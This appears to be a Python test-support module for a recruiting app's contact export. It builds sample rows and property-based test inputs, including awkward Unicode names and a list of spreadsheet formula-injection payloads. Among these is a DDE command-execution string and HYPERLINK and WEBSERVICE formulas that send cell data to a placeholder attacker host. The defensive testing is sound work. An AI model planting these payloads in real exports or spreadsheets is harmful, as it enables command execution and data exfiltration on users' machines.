"""People who leave a team as a file: plain ones, hard ones, and any."""

from datetime import date, datetime
from zoneinfo import ZoneInfo

from hypothesis import settings
from hypothesis import strategies as st

from webapp.recruiting.exporting.presets import PRESETS
from webapp.recruiting.exporting.rows import Contacts, ExportRow
from webapp.recruiting.exporting.words import wording
from webapp.recruiting.exporting.writing import written

TABLES = [preset for preset in PRESETS.values() if preset.columns]
MACHINES = [preset for preset in TABLES if not preset.is_read_by_people]
MANY = settings(max_examples=100, derandomize=True, database=None)
MET_ON = datetime(2026, 11, 19, 19, 42, 7, tzinfo=ZoneInfo("Europe/Berlin"))
FAMILY = "\N{WOMAN}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{ZERO WIDTH JOINER}\N{GIRL}"


def make_row(**changes) -> ExportRow:
    plain = {
        "name": "Amina Diallo",
        "organisation": "Kora Labs",
        "headline": "Data engineer",
        "contacts": Contacts(
            "amina@example.org",
            "https://www.linkedin.com/in/amina",
            "https://amina.example.org",
            ("https://github.com/amina",),
        ),
        "met_at": "PyMeetup November",
        "met_on": MET_ON,
        "met_with": ("Rita Recruiter",),
        "evidence": "Both scanned",
        "stage": "Shortlisted",
        "next_step": "Send the job page",
        "next_on": date(2026, 12, 1),
        "owner": "Rita Recruiter",
        "topics": ("Rust", "PostgreSQL"),
        "note": "Wants to lead a team.",
    }
    return ExportRow(**(plain | changes))


def text_of(rows, preset, **options) -> str:
    return b"".join(written(rows, preset, wording(), **options)).decode()


HARD = [
    "Diallo, Amina",
    'Amina "Ami" Diallo',
    "Zo\u0308e\u0301",
    f"Amina {FAMILY} Diallo",
    "\u0623\u0645\u064a\u0646\u0629 \u062f\u064a\u0627\u0644\u0648",
    "\u05d0\u05de\u05d9\u05e0\u05d4; \u05db\u05d4\u05df",
    "\u5c71\u7530 \u592a\u90ce",
    "a;b,c|d",
    "back\\slash",
    "'quoted'",
    '"',
    "trailing \\",
    "1/2",
    "007",
    "10,000",
    "TRUE",
    "\N{NUMBER SIGN}REF!",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example.org?x="&A2,"Amina")',
    '=WEBSERVICE("https://evil.example.org/"&A1)',
    "  =1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe631+1",
    "=",
    "=-+@",
    "- =1+1",
    "a;=1+1",
    'a;"=1&',
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "\t=1+1",
    "\n=1+1",
    "\0=1+1",
    "- one\n- two",
]

LINES = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
TRICKY = st.text(st.sampled_from("=+-@\uff1d;,\t\r\n\0\"' aDi\u05d0\u202e"), max_size=12)
TEXTS = st.one_of(LINES, TRICKY, st.sampled_from(HARD + FORMULAS))
ROWS = st.builds(
    make_row,
    name=TEXTS,
    first_name=st.one_of(st.just(""), TEXTS),
    last_name=st.one_of(st.just(""), TEXTS),
    organisation=TEXTS,
    headline=TEXTS,
    contacts=st.one_of(
        st.just(Contacts()),
        st.builds(Contacts, st.sampled_from([None, "amina@example.org", "-a@example.org"])),
    ),
    met_at=TEXTS,
    met_with=st.lists(TEXTS, max_size=2).map(tuple),
    stage=TEXTS,
    next_step=TEXTS,
    topics=st.lists(TEXTS, max_size=3).map(tuple),
    note=TEXTS,
)
